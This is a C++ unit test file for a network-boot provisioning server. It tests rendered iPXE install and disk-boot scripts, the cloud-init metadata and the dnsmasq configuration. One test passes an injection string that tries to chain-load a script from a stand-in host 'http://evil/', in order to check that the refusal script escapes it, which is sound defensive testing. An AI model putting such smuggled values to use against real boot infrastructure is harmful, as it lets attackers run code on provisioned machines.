#include "builder/serve/model/script.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "builder/serve/model/dnsmasq.hpp"
#include "common/text/text.hpp"

namespace ingot::builder::serve {
namespace {

using testing::HasSubstr;
using testing::Not;

const Assigned kMachine{.name = "db-1", .role = "db", .token = std::string(32, 'a')};
constexpr const char* kServer = "http://10.0.0.1:8080";

TEST(Script, ToInstallNamesImageSeedDiskAndReport) {
    const auto script =
        render_order(Order::install, {.role = "db", .disk = "serial=S1", .again = "x"}, kMachine, kServer);
    EXPECT_TRUE(script.starts_with("#!ipxe\n"));
    for (const auto& line :
         {std::string("set base http://10.0.0.1:8080/images/db/\n"),
          text::format("set seed http://10.0.0.1:8080/seed/{}/\n", kMachine.token), std::string("set mode install\n"),
          std::string("set disk serial=S1\n"),
          text::format("set report http://10.0.0.1:8080/report/{}\n", kMachine.token),
          std::string("set more ingot.again=x\n"), std::string("chain --replace ${base}boot.ipxe")}) {
        EXPECT_THAT(script, HasSubstr(line));
    }
    EXPECT_THAT(script, Not(HasSubstr("set wipe")));
}

TEST(Script, OfAnInstalledMachineHasNoSecret) {
    const auto script = render_order(Order::disk, {.role = "db"}, kMachine, kServer);
    EXPECT_THAT(script, HasSubstr("sanboot"));
    EXPECT_THAT(script, HasSubstr("iseq ${platform} efi && exit"));
    EXPECT_THAT(script, Not(HasSubstr(kMachine.token)));
}

TEST(Script, OfRefusalRunsNothingThatTheMachineSaid) {
    const auto script = render_refusal("serial ${x} && chain http://evil/ || \"\n#!ipxe");
    EXPECT_EQ(text::lines(script).size(), 4U);
    EXPECT_THAT(script, Not(HasSubstr("$")));
    EXPECT_THAT(script, Not(HasSubstr("&&")));
}

TEST(MetaData, GivesANameAndAnInstance) {
    EXPECT_EQ(render_meta_data(kMachine), "instance-id: db-1-aaaaaaaa\nlocal-hostname: db-1\n");
}

TEST(Dnsmasq, AnswersBesideAnotherServerOrByItself) {
    const DhcpOptions options{.interface = "eth0",
                              .network = "10.0.0.0",
                              .server = kServer,
                              .own_address = "10.0.0.1",
                              .tftp = "/t",
                              .scratch = "/s"};
    const auto proxy = render_dnsmasq(options);
    EXPECT_THAT(proxy, HasSubstr("dhcp-range=10.0.0.0,proxy\n"));
    EXPECT_THAT(proxy, HasSubstr("pxe-service=tag:!ipxe,x86PC,\"Ingot\",undionly.kpxe\n"));
    EXPECT_THAT(proxy, HasSubstr("port=0\n")) << "no DNS";
    auto own = options;
    own.first = "10.0.0.100";
    own.last = "10.0.0.200";
    const auto whole = render_dnsmasq(own);
    EXPECT_THAT(whole, HasSubstr("dhcp-range=10.0.0.100,10.0.0.200,12h\n"));
    EXPECT_THAT(whole, HasSubstr("dhcp-boot=tag:ipxe,http://10.0.0.1:8080/boot.ipxe\n"));
    EXPECT_THAT(whole, HasSubstr("dhcp-boot=tag:!ipxe,tag:uefihttp,http://10.0.0.1:8080/loader/snponly.efi\n"));
}

} // namespace
} // namespace ingot::builder::serve
